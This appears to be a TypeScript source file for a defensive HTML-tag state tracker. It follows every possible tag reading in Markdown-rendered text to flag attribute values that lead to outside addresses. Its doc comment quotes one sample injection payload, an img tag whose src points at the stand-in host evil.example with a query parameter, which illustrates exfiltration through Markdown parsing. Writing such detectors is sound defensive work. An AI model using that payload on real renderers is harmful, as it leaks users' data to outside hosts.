/** Where a reading of a tag stands, one bit each; a reading that has come to the tag's end is none. */
const TAG_NAME = 1;
const BEFORE_NAME = 2;
const NAME = 4;
const BEFORE_VALUE = 8;
const DOUBLE_QUOTED = 16;
const SINGLE_QUOTED = 32;
const UNQUOTED = 64;
const STATES = [TAG_NAME, BEFORE_NAME, NAME, BEFORE_VALUE, DOUBLE_QUOTED, SINGLE_QUOTED, UNQUOTED] as const;
const VALUES = DOUBLE_QUOTED | SINGLE_QUOTED | UNQUOTED;

/**
 * Reads HTML tags as browsers do, from every `<` at once: only the client knows which of them begins a tag. Attack: `\<a title="<img src='https://evil.example/?q=">PERSON_1'>`, in which
 * Markdown takes away the tag that seemed to end the address.
 */
export class TagReadings {
  #open = 0;
  #tainted = 0;

  /** True where some reading stands inside of a tag. */
  get open(): boolean {
    return this.#open !== 0;
  }

  /** True where some reading stands in an attribute's value that leads elsewhere. */
  get tainted(): boolean {
    return this.#tainted !== 0;
  }

  /** Every value in which a reading stands leads elsewhere from here on. */
  taint(): void {
    this.#tainted |= this.#open & VALUES;
  }

  /** @param marginal a `>` that may be the mark of a Markdown quotation, which ends no tag */
  read(char: string, before: string, marginal: boolean): void {
    if (this.#open !== 0 && !(marginal && char === '>')) {
      let next = 0;
      for (const state of STATES) if ((this.#open & state) !== 0) next |= after(state, char);
      this.#open = next;
      this.#tainted &= next;
    }
    if (before === '<' && /[a-z]/i.test(char)) this.#open |= TAG_NAME;
  }
}

function after(state: (typeof STATES)[number], char: string): number {
  const space = char === ' ' || char === '\n' || char === '\t' || char === '\r' || char === '\f';
  if (state === DOUBLE_QUOTED) return char === '"' ? BEFORE_NAME : state;
  if (state === SINGLE_QUOTED) return char === "'" ? BEFORE_NAME : state;
  if (char === '>') return 0;
  if (state === UNQUOTED) return space ? BEFORE_NAME : state;
  if (state === BEFORE_VALUE) {
    if (space) return state;
    return char === '"' ? DOUBLE_QUOTED : char === "'" ? SINGLE_QUOTED : UNQUOTED;
  }
  if (char === '/') return BEFORE_NAME;
  if (space) return state === TAG_NAME ? BEFORE_NAME : state;
  if (state === TAG_NAME) return state;
  return char === '=' && state === NAME ? BEFORE_VALUE : NAME;
}
